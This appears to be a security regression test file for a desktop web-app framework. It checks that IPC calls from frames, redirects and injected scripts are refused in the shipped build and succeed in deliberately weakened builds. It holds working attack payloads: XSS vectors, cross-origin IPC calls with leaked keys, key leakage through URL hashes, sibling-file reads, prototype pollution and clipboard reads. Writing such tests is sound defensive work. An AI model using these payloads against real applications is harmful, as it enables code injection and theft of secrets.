// Attacks in real windows: frames, redirects, injected scripts. Each runs in two apps: one as it
// would be shipped, and one without the rule, where it must succeed.

import { afterAll, expect } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { tempDir } from "../../harness/temp-dir.ts";
import {
  onDisplay,
  root,
  shareSession,
  startDisplayApp,
  type DisplayApp,
} from "../support/app/display-app.ts";
import { unguardedRunner } from "./unguarded.ts";

const csp =
  "default-src 'self'; script-src 'self' 'unsafe-eval'; frame-src * asset:; connect-src *; style-src 'self'";

/** A foreign file, and the files beside it. */
const files = tempDir({
  "hostile.html": `<!doctype html><script>
    parent.postMessage({ began: true }, "*");
    const path = decodeURIComponent(location.pathname).replace(/hostile.html$/, "key.txt");
    fetch("/" + encodeURIComponent(path.slice(1))).then((response) => response.text(), () => "refused")
      .then((text) => parent.postMessage({ report: text }, "*"));
  </script>`,
  "key.txt": "the secret",
});
afterAll(() => files[Symbol.dispose]());

/** An app that leaves the key of each document where every script can read it. */
const leakyMain = `
import { AssetProtocol } from ${JSON.stringify(join(root, "src/app/pages/asset-protocol.ts"))};
import { Ui } from ${JSON.stringify(join(root, "src/app/ui.ts"))};
const { respond } = AssetProtocol.prototype;
AssetProtocol.prototype.respond = function (request) {
  const { headers: { "content-security-policy": _, ...headers }, ...response } = respond.call(this, request);
  return { ...response, headers };
};
const { call } = Ui.prototype;
Ui.prototype.call = function (name, args) {
  const leak = ({ bridge, ...spec }) =>
    ({ ...spec, bridge: { ...bridge, source: \`(key, engine) => { window.leaked = key; (\${bridge.source})(key, engine); }\` } });
  return call.call(this, name, name === "window.create" ? leak(args) : args);
};
export { default } from ${JSON.stringify(join(root, "test/fixtures/display-app/main.ts"))};
`;

/** The same, and whoever has a key may use it, wherever it comes from. */
const unguardedMain = `
import { Origins } from ${JSON.stringify(join(root, "src/app/calls/origins.ts"))};
Origins.prototype.check = () => {};
${leakyMain}`;

const runner = unguardedRunner();

/**
 * As it is shipped; with a bridge that gives its key away, and pages without a policy; without any
 * wall.
 */
type Kind = "shipped" | "leaky" | "unguarded";

const allowlist = { protocol: { asset: true, assetScope: [`${files.path}/**`] } };
const shared = shareSession();
const apps = new Map<Kind, Promise<DisplayApp>>();

/** One app of each kind, started when the first attack wants it. */
function appOf(kind: Kind): Promise<DisplayApp> {
  const build = { devPath: "../page", distDir: "../page", withGlobalFramework: true };
  const started =
    apps.get(kind) ??
    startDisplayApp(shared.session, {
      windows: ["main", "second"],
      config: {
        build: kind === "unguarded" ? { ...build, runner } : build,
        framework: {
          allowlist,
          security: kind === "shipped" ? { csp, freezePrototype: true } : {},
        },
      },
      files:
        kind === "shipped"
          ? {}
          : { "src-framework/main.ts": kind === "leaky" ? leakyMain : unguardedMain },
    });
  apps.set(kind, started);
  return started;
}
afterAll(async () => {
  for (const app of apps.values()) await (await app)[Symbol.asyncDispose]();
});

/** An attack by a script in the page: `true` when it got through. */
function attack(
  name: string,
  run: (app: DisplayApp) => Promise<unknown>,
  weak: Kind = "leaky",
): void {
  onDisplay(`${name}: it is refused`, async () =>
    expect(await run(await appOf("shipped"))).toBe(false),
  );
  onDisplay(`${name}: without the rule it succeeds`, async () =>
    expect(await run(await appOf(weak))).toBe(true),
  );
}

const inPage =
  (code: string, ...args: unknown[]) =>
  async (app: DisplayApp) =>
    app.page().run(code, ...args);

// Frames
// -----------------------------------------------------------------------------------------------

/**
 * In a frame: with the key it is sent, or with a guess, it tries to call, by both ways there are.
 */
const frameScript = `
addEventListener("message", async ({ data: { key }, source }) => {
  if (key === undefined) return;
  const call = '{"command":"test.echo","args":"got through"}';
  const refused = () => "";
  const message = await (async () => window.webkit.messageHandlers.framework.postMessage(key + call))().catch((answer) => answer.message);
  const frame = new Uint8Array(4 + call.length);
  new DataView(frame.buffer).setUint32(0, call.length, true);
  frame.set(new TextEncoder().encode(call), 4);
  const posted = await fetch("framework://localhost/__ipc/call", { method: "POST", body: frame, headers: { "x-framework-key": key } })
    .then((response) => response.text(), refused);
  const bridge = typeof window.__FRAMEWORK__ + typeof window.__FRAMEWORK_BRIDGE__;
  source.postMessage({ report: { message: message.includes("got through"), posted: posted.includes("got through"), bridge } }, "*");
});
`;
const frameHtml = `<!doctype html><script>${frameScript}</script>`;

/** Pages of another origin, on this machine; `/away` redirects to `at`. */
function serve(html: string, receive: (report: unknown) => void = () => {}) {
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(request) {
      const url = new URL(request.url);
      if (request.method === "POST") receive(await request.json());
      if (url.pathname === "/away") return Response.redirect("/page");
      return new Response(html, { headers: { "content-type": "text/html" } });
    },
  });
  return { url: server.url.href, [Symbol.asyncDispose]: () => server.stop(true) };
}

/**
 * Makes a frame, gives it the key if there is one, and returns if any of its ways to call worked.
 */
const byFrame = (make: string) => async (app: DisplayApp) => {
  const nested = `<!doctype html><iframe sandbox="allow-scripts"></iframe><script>
    const inner = document.querySelector("iframe");
    inner.srcdoc = ${JSON.stringify(frameHtml).replaceAll("</", "<\\/")};
    addEventListener("message", ({ data }) => { if (data.report) parent.postMessage(data, "*"); else inner.contentWindow.postMessage(data, "*"); });
  </script>`;
  await using server = serve(frameHtml);
  await using outer = serve(nested);
  const report = (await app.page().run(
    `
    const [html, script, server, outer] = args;
    const frame = document.createElement("iframe");
    const loaded = new Promise((resolve) => (frame.onload = resolve));
    ${make}
    document.body.append(frame);
    await loaded;
    const key = window.leaked ?? "0".repeat(32);
    const answered = new Promise((resolve) => addEventListener("message", ({ data }) => data.report && resolve(data.report)));
    // The frame inside of a frame may come later than its outer one.
    const telling = setInterval(() => frame.contentWindow.postMessage({ key }, "*"), 20);
    try { return await answered; } finally { clearInterval(telling); frame.remove(); }`,
    frameHtml,
    frameScript,
    server.url,
    outer.url,
  )) as { message: boolean; posted: boolean; bridge: string };
  // Not even with the key is there an API in a frame.
  expect(report.bridge).toBe("undefinedundefined");
  return report.message || report.posted;
};

for (const [what, make] of [
  ["of another site", "frame.src = server;"],
  ["that is redirected", "frame.src = server + 'away';"],
  ["in a frame of another site", "frame.src = outer;"],
  ["in a sandbox, of another site", "frame.sandbox = 'allow-scripts'; frame.src = server;"],
] as const) {
  attack(`CVE-2024-35222: a frame ${what} calls the app`, byFrame(make));
}

// In a frame without an address of its own the page's policy holds, so its script is put in by the
// page.
for (const [what, make] of [
  ["with its text in an attribute", "frame.srcdoc = '<p>';"],
  ["without an address", ""],
  ["that shows the app's own page", "frame.src = '/';"],
] as const) {
  attack(
    `CVE-2024-35222: a frame ${what} calls the app`,
    byFrame(`${make}
    loaded.then(() => frame.contentWindow.eval(script));`),
  );
}

// A file may be shown without being trusted. The first messages of its script arrive before the
// frame has been loaded.
attack(
  "a file of the user's that is shown in a frame reads the files beside it",
  async (app) =>
    (await app.page().run(
      `
    const frame = document.createElement("iframe");
    let began = false;
    const report = new Promise((resolve) => {
      addEventListener("message", ({ data }) => { began ||= data.began; if (data.report) resolve(data.report); });
      frame.onload = () => setTimeout(() => began || resolve("it ran no script"));
    });
    frame.src = "asset://localhost/" + encodeURIComponent(args[0]);
    document.body.append(frame);
    try { return await report; } finally { frame.remove(); }`,
      `${files.path}/hostile.html`,
    )) === "the secret",
);

// Leaving the app
// --------------------------------------------------------------------------------------

/**
 * Opens a page of another site by `go`, whose script tries to call with the key of the app's page.
 */
const byLeaving = (go: string) => async (app: DisplayApp) => {
  const { promise, resolve } = Promise.withResolvers<unknown>();
  const script = `
    const key = new URLSearchParams(location.hash.slice(1)).get("key") ?? window.leaked ?? "0".repeat(32);
    const call = '{"command":"test.echo","args":"got through"}';
    const attempt = async () => [
      typeof window.__FRAMEWORK__ !== "undefined" || typeof window.__FRAMEWORK_BRIDGE__ !== "undefined",
      await (async () => window.webkit.messageHandlers.framework.postMessage(key + call))().catch((answer) => answer.message.includes("got through")),
    ].includes(true);
    onload = () => setTimeout(async () => { await fetch("/", { method: "POST", body: JSON.stringify(await attempt()) }); history.back(); });`;
  await using server = serve(`<!doctype html><script>${script}</script>`, resolve);
  const opened = app.pageCount("second");
  await app
    .page("second")
    .run(
      `setTimeout((server) => { const key = window.leaked ?? ""; ${go} }, 0, args[0])`,
      server.url,
    );
  const report = await promise;
  await app.pageOpened("second", opened + 1);
  expect(
    await app.page("second").run("return await __FRAMEWORK__.invoke('test.echo', 'back')"),
  ).toBe("back");
  return report;
};

for (const [what, go] of [
  ["is sent to", "location.href = server + '#key=' + key"],
  ["is redirected to", "location.href = server + 'away#key=' + key"],
] as const) {
  attack(
    `CVE-2023-31134: another site that a window ${what} calls the app`,
    byLeaving(go),
    "unguarded",
  );
  // The key is the document's: even the one that is given away opens nothing for the next document.
  onDisplay(
    `CVE-2023-31134: another site that a window ${what} calls nothing with the key of the page before`,
    async () => expect(await byLeaving(go)(await appOf("leaky"))).toBe(false),
  );
}

const callWith = (key: string) => `
  const reply = await webkit.messageHandlers.framework.postMessage(${key} + '{"command":"test.echo","args":"got through"}').catch((answer) => answer.message);
  return reply.includes("got through");`;

attack(
  "TRI-005: a script of the page calls past the bridge",
  inPage(callWith(`(window.leaked ?? "0".repeat(32))`)),
);

onDisplay("the key of a page that was loaded anew is worth nothing", async () => {
  const app = await appOf("leaky");
  const key = await app.page().run("return window.leaked");
  await app.page().reload();
  expect(await app.page().run(callWith("args[0]"), key)).toBe(false);
});

// Injected scripts
// -------------------------------------------------------------------------------------

/**
 * Puts an element into the page as an injected piece of markup would, and waits until it ran or was
 * stopped.
 */
const byElement = (make: string) =>
  inPage(`
    window.ran = false;
    const stopped = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
    const running = new Promise((resolve) => Object.defineProperty(window, "ran", { configurable: true, set: resolve, get: () => undefined }));
    const script = document.createElement("script");
    const add = (element) => { document.body.append(element); return element; };
    ${make}
    const result = await Promise.race([running.then(() => true), stopped.then(() => false)]);
    delete window.ran;
    return result;`);

for (const [what, make] of [
  ["a script with its text inside", "script.textContent = 'window.ran = true'; add(script);"],
  [
    "CVE-2026-95626: a script from a data address",
    "script.src = 'data:text/javascript,window.ran=true'; add(script);",
  ],
  [
    "CVE-2026-95626: a script from a blob",
    "script.src = URL.createObjectURL(new Blob(['window.ran = true'], { type: 'text/javascript' })); add(script);",
  ],
  [
    "an attribute that is a script",
    "add(document.createElement('div')).innerHTML = '<img src=x onerror=\"window.ran = true\">';",
  ],
  [
    "a link whose address is a script",
    "const link = add(document.createElement('a')); link.href = 'javascript:void(window.ran = true)'; link.click();",
  ],
  [
    "a script with the nonce of another answer",
    `const page = await (await fetch("/")).text();
     script.nonce = /nonce="([^"]+)"/.exec(page)?.[1] ?? "";
     script.textContent = 'window.ran = true'; add(script);`,
  ],
] as const) {
  attack(`an attacker's markup runs ${what}`, byElement(make));
}

attack(
  "a script gives every object of the page a property",
  inPage(`
    try { Object.prototype.polluted = true; } catch {}
    const got = {}.polluted === true;
    if (got) delete Object.prototype.polluted;
    return got;`),
);

attack(
  "TRI-032: a page reads the clipboard by the engine's own ways",
  async (app) => {
    const file = join(app.session.folder, "copied.txt");
    writeFileSync(file, "the secret");
    const program = join(root, "test/fixtures/clipboard-program.ts");
    await using copying = app.session.start([process.execPath, program, "copy", file]);
    await copying.line("copied");
    const code = `
      const field = document.createElement("textarea");
      document.body.append(field);
      field.focus();
      document.execCommand("paste");
      const read = async () => navigator.clipboard.readText();
      const got = [field.value, await read().catch(() => "")];
      field.remove();
      return got.includes("the secret");`;
    return await app.page().run(code);
  },
  "unguarded",
);

onDisplay("a page opens windows by the app alone", async () => {
  expect(await (await appOf("shipped")).page().run(`return window.open("/") === null`)).toBe(true);
});

onDisplay("the nonces of a page cannot be read from its markup", async () => {
  const code = `
    const [script] = document.querySelectorAll("script");
    return [script.getAttribute("nonce"), script.nonce.length, document.documentElement.outerHTML.includes(script.nonce)]`;
  expect(await (await appOf("shipped")).page().run(code)).toEqual(["", 24, false]);
});

attack("TRI-006: a script from another site is loaded", async (app) => {
  await using server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: () =>
      new Response("window.ran = true", { headers: { "content-type": "text/javascript" } }),
  }) as unknown as AsyncDisposable & { url: URL };
  return await byElement(`script.src = ${JSON.stringify(server.url.href)}; add(script);`)(app);
});
